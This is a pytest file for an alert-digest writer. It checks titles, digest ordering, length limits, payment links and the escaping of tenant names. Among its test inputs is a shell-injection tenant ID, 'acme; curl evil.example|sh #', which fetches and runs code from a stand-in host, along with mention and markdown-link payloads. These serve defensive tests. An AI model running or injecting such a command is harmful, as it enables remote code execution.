"""What a message says: one alert in full, many in one digest."""

import random
import re
import subprocess
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.alerts.samples import (
    AT,
    CRITICAL,
    FOREIGN,
    INFO,
    NEAR,
    PAID,
    STARTED,
    TEXTS,
    WARNING,
    WRITER,
    raised,
    resolved,
)
from worker.alerts.digest import ROOM, Missed, Writer, wanting_links
from worker.alerts.places import Places
from worker.core.alert_rules import DATA_FIELDS
from worker.core.alerts import Alert, AlertKind, Phase, Severity
from worker.core.times import HOUR, MINUTE, SECOND

LINK = "https://checkout.example/pay/cs_1"


def test_one_alert_is_told_in_full_with_a_link_to_its_tenants_page() -> None:
    message = WRITER.write([raised("workspace/1")])
    assert message.title == "Warning: workspace/1: seats nearly used up"
    assert message.severity is WARNING
    happened, means, todo, link = message.body.split("\n\n")
    assert happened.startswith(
        "What happened (2026-05-01 10:00 UTC): 8 users need a seat and 10 seats are paid for: 80 %"
    )
    assert means.startswith("What it means: ")
    assert "seats why workspace/1" in todo
    assert link == "Dashboard: https://seats.example/tenants/workspace%2F1"


def test_the_end_of_an_alert_says_so_and_how_long_it_lasted() -> None:
    message = WRITER.write([resolved("acme", PAID, CRITICAL, since=AT - 3 * HOUR)])
    assert message.title == "Resolved: acme: paid, but the seats have not arrived"
    assert "It lasted 3 h, from 2026-05-01 07:00 UTC." in message.body
    assert message.severity is None


def test_where_no_public_url_is_set_the_page_is_named() -> None:
    writer = Writer(TEXTS, Places(None))
    assert writer.write([raised()]).body.endswith("Dashboard: the page of tenant acme on the dashboard")
    assert "://" not in writer.write([raised(), raised("globex")]).body


def test_500_tenants_are_one_message_that_names_ten_and_counts_the_rest() -> None:
    message = WRITER.write([raised(f"tenant_{number}") for number in range(500)])
    assert message.title == "Warning: seats nearly used up (500 tenants)"
    assert message.body.count("- tenant_") == 10
    assert "- tenant_0: 8 of 10 seats (80 %)" in message.body
    assert "- and 490 more" in message.body
    assert "seats why TENANT" in message.body
    assert message.body.endswith("Dashboard: https://seats.example/alerts")
    assert len(message.body) <= ROOM


def test_a_digest_begins_with_the_worst_and_ends_with_what_is_over() -> None:
    alerts = [resolved("over", since=AT - HOUR), raised("b", STARTED, INFO), *(raised(f"w{n}") for n in range(3))]
    message = WRITER.write([*alerts, raised("c", PAID, CRITICAL)])
    assert message.title == "Critical: 6 alerts (1 critical, 3 warnings, 1 for information, 1 resolved)"
    assert message.severity is CRITICAL
    heads = [line.split(":")[0] for line in message.body.split("\n") if line.split(":")[0].isupper()]
    assert heads == ["CRITICAL", "WARNING", "INFO", "RESOLVED"]
    assert "RESOLVED: seats nearly used up: over." in message.body


def test_several_alerts_of_one_tenant_name_it_and_lead_to_its_page() -> None:
    message = WRITER.write([raised("acme", STARTED, INFO), raised("acme"), resolved("acme", PAID, CRITICAL, since=AT)])
    assert message.title == "Warning: acme: seats nearly used up, and 2 more"
    assert message.body.endswith("Dashboard: https://seats.example/tenants/acme")
    assert "\nRESOLVED: paid, but the seats have not arrived: acme.\n" in message.body


def test_what_began_and_ended_while_it_waited_is_one_line() -> None:
    alerts = [raised("blink", at=AT), resolved("blink", since=AT, at=AT + SECOND), raised("acme", at=AT + SECOND)]
    message = WRITER.write(alerts)
    assert "Came and went: blink (seats nearly used up)." in message.body
    assert message.body.count("blink") == 1
    alone = WRITER.write(alerts[:2])
    assert (alone.title, alone.severity) == ("Resolved: what came up is over again", None)


def test_what_got_worse_is_told_once_as_it_is_now() -> None:
    worse = raised("acme", needed=9, used=9, capacity=10, threshold=90)
    message = WRITER.write([raised("acme"), worse])
    assert message.title == "Warning: acme: seats nearly used up"
    assert "9 users need a seat" in message.body
    assert "8 users" not in message.body


def test_what_ended_and_began_anew_is_told_as_begun() -> None:
    message = WRITER.write([resolved("acme", since=AT - HOUR, at=AT), raised("acme", at=AT + SECOND)])
    assert message.title == "Warning: acme: seats nearly used up"


def test_the_end_of_what_an_earlier_message_told_is_never_swallowed() -> None:
    """It got worse and was over within one message; its beginning had been told before."""
    message = WRITER.write([raised("acme", at=AT), resolved("acme", since=AT - HOUR, at=AT + SECOND)])
    assert message.title == "Resolved: acme: seats nearly used up"


def test_moments_are_counted_not_folded_away() -> None:
    message = WRITER.write([raised("acme", FOREIGN, event=f"evt_{number}") for number in range(3)])
    assert "(3 times by now)" in message.body
    both = WRITER.write([*(raised("acme", FOREIGN, event=f"evt_{number}") for number in range(3)), raised("globex")])
    assert "- acme: event evt_2 (3 times)" in both.body


def test_alerts_of_one_kind_that_stand_side_by_side_stay_apart() -> None:
    low = AlertKind.CREDITS_LOW
    message = WRITER.write([raised("acme", low, key="a", pool="API calls"), raised("acme", low, key="b", pool="Mails")])
    assert message.title == "Warning: acme: credits are running low, and 1 more"
    assert "API calls" in message.body
    assert "Mails" in message.body


def test_a_link_goes_beside_its_upgrade_where_it_is_given_and_nowhere_else() -> None:
    started = raised("acme", STARTED, INFO, upgrade="upg_1", size=13, from_capacity=10)
    assert wanting_links([started, raised()]) == [("acme", "upg_1")]
    assert f"Pay here: {LINK}" in WRITER.write([started], links={("acme", "upg_1"): LINK}).body
    many = [started, *(raised(f"t{n}", STARTED, INFO, upgrade=f"u{n}") for n in range(20))]
    assert len(wanting_links(many)) == 10
    assert WRITER.write(many, links={("acme", "upg_1"): LINK}).body.count(LINK) == 1
    assert "Pay here" not in WRITER.write([started]).body
    assert wanting_links([started, resolved("acme", STARTED, INFO, since=AT)]) == []


def test_what_is_the_case_for_some_tenants_only_is_told_of_apart() -> None:
    pool: dict[str, Any] = {"pool": "api", "remaining": 0, "limit": 100, "used_percent": 100}
    hard = raised("acme", AlertKind.CREDITS_EXHAUSTED, CRITICAL, hard=True, **pool)
    soft = raised("globex", AlertKind.CREDITS_EXHAUSTED, WARNING, hard=False, **pool)
    body = WRITER.write([soft, hard]).body
    first, second, _ = body.split("\n\n")
    assert first.startswith("CRITICAL: credits are used up\n- acme: ")
    assert "it blocks at zero" in first
    assert second.startswith("WARNING: credits are used up\n- globex: ")
    assert "does not block at zero" in second
    assert "it does" not in body
    assert "HARD" not in body


def test_an_upgrade_paid_by_invoice_is_promised_no_link() -> None:
    about: dict[str, Any] = {"upgrade": "upg_1", "size": 13, "from_capacity": 10, "used": 11}
    invoiced = WRITER.write([raised("acme", STARTED, INFO, invoiced=True, **about)]).body
    assert "by an invoice" in invoiced
    assert "link" not in invoiced.replace("Dashboard", "")
    checkout = WRITER.write([raised("acme", STARTED, INFO, invoiced=False, **about)]).body
    assert "`seats status acme --show-links` prints it" in checkout
    assert "invoice" not in checkout


@pytest.mark.parametrize(
    "tenant",
    [
        "workspace/1",
        "acme; curl evil.example|sh #",
        "it's $HOME `id` \\ !!",
        "@everyone",
        "a@everyone @here <!channel> <@123>",
        "x" * 255,
        "é" * 255,
        "user@example.com",
        "right\u202eleft",
        "[pay](https://evil.example) *now*",
    ],
)
def test_a_command_holds_the_whole_id_of_a_tenant_as_one_word_of_a_shell(tenant: str) -> None:
    """Asked of a real shell."""
    body = WRITER.write([raised(tenant)]).body
    found = re.search(r"`seats why (.*?)`\. To keep", body)
    assert found is not None
    shell = subprocess.run(["bash", "-c", f"printf %s {found[1]}"], capture_output=True, check=True)
    assert shell.stdout.decode() == tenant


def test_what_a_tenant_is_called_mentions_nobody_and_is_no_markup() -> None:
    names = [
        "@everyone",
        "a@here",
        "<!channel>",
        "<@123456>",
        "[pay](https://evil.example)",
        "*b* `c` ~d~",
        "_e_",
        "# f",
    ]
    for alerts in ([raised(name)] for name in names):
        for written in (WRITER.write(alerts), Writer(TEXTS, Places(None)).write(alerts)):
            text = f"{written.title}\n{written.body}".replace(Places("https://seats.example").of(alerts[0]), "")
            assert not re.search(r"@(everyone|here|channel)|<[!@#]", text), text
            outside_code = re.sub(r"`[^`\n]*`", "", text)
            assert not re.search(r"\]\(|[*~`]|_e_|https://evil|: # ", outside_code), outside_code
    many = WRITER.write([raised(name) for name in names])
    assert not re.search(r"@(everyone|here|channel)|<[!@#]", f"{many.title}\n{many.body}")
    assert "- @\u200beveryone: 8 of 10" in many.body
    said = WRITER.write([raised("acme", AlertKind.CROVVER_UNREACHABLE, reason="ask @here", from_at=AT)]).body
    assert "ask @\u200bhere" in said


def test_a_plain_name_is_shown_as_it_is() -> None:
    for name in ("tenant_0", "acme-1.eu", "Acme & Söhne GmbH", "日本", "42", "a:b/c"):
        assert WRITER.write([raised(name)]).title == f"Warning: {name}: seats nearly used up"


def test_what_could_not_be_told_is_said() -> None:
    body = WRITER.write([raised()], Missed(dropped=1234, unreadable=2)).body
    assert "could not be reached for too long: 1,234 older alerts" in body
    assert "only another release can read them: 2 alerts" in body
    assert WRITER.write([], Missed(dropped=5)).title == "Alerts were missed"


def test_values_are_readable_and_others_words_are_harmless() -> None:
    reason = "no\nsuch\x07plan at https://checkout.stripe.com/c/pay/cs_live_hunter2hunter2 " + "x" * 5000
    unreachable = raised("a\nb\u202e", AlertKind.CROVVER_UNREACHABLE, reason=reason, from_at=AT - 90 * MINUTE)
    message = WRITER.write([unreachable])
    assert "\n" not in message.title
    assert "Since 2026-05-01 08:30 UTC" in message.body
    assert "hunter2" not in message.body
    assert "\x07" not in message.body
    assert len(message.body) < 1500


def test_an_alert_of_an_older_release_lacks_what_is_new_and_is_told_all_the_same() -> None:
    assert "unknown" in WRITER.write([raised("acme", PAID, CRITICAL, size=13)]).body


@pytest.mark.parametrize("kind", list(AlertKind))
def test_every_kind_can_be_told_in_every_phase_with_every_field_filled_or_empty(kind: AlertKind) -> None:
    for value in (None, 0, 7, 2.5, True, "text"):
        data = dict.fromkeys(DATA_FIELDS[kind], value)
        for phase in Phase:
            data_now = {**data, "since_at": AT - HOUR} if phase is Phase.RESOLVED else data
            for tenants in (["acme"], [""], ["acme", "globex"]):
                alerts = [Alert(AT, tenant, kind, WARNING, phase, AT, "", data_now) for tenant in tenants]
                message = WRITER.write(alerts)
                assert "{" not in message.body
                assert "Dashboard: https://seats.example/" in message.body
                assert 0 < len(message.title) <= 120


@given(
    st.lists(
        st.builds(
            raised,
            st.sampled_from(["acme", "globex", "x" * 255, "", "日本"]),
            st.sampled_from(AlertKind),
            st.sampled_from(Severity),
            at=st.integers(AT, AT + HOUR),
            key=st.sampled_from(["", "a"]),
        ),
        max_size=80,
    ),
    st.integers(60, ROOM),
)
def test_no_message_is_longer_than_its_channel_takes(alerts: list[Alert], room: int) -> None:
    random.Random(1).shuffle(alerts)
    message = WRITER.write(alerts, Missed(1, 1), room=room)
    assert len(message.body) <= room
    assert len(message.title) <= 120


def test_the_worst_digest_there_can_be_still_says_how_many_of_each_kind() -> None:
    alerts = [raised("x" * 200 + str(number), kind, CRITICAL) for kind in AlertKind for number in range(400)]
    alerts += [resolved("y" * 200 + str(number), NEAR, since=AT - HOUR) for number in range(400)]
    message = WRITER.write(alerts)
    assert len(message.body) <= ROOM
    assert all(f"{TEXTS[kind].title} (" in message.body for kind in AlertKind)


def test_a_short_message_keeps_what_happened_and_whole_parts_only() -> None:
    body = WRITER.write([raised()], room=300).body
    assert body.startswith("What happened")
    assert len(body) <= 300
    assert not body.endswith("…")
